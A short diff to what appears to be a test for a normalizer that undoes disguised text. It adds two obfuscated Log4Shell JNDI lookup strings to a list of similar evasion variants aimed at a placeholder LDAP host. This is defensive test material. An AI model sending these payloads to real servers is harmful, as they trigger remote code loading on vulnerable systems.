@@ -18,6 +18,8 @@ test('every disguise of the same text is undone', () => {
     '${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://x}',
     '${${env:NO_SUCH:-j}ndi${env:NO_SUCH:-:}ldap://x}',
     '${${lower:${upper:${::-j}}}ndi:ldap://x}',
+    "${${date:'j'}n${date:'di'}:ldap://x}",
+    '${jnd${upper:\xc4\xb1}:ldap://x}',
     '%uFF04{jndi:ldap://x}',
     '$\0{jndi:ldap://x}',
   ]
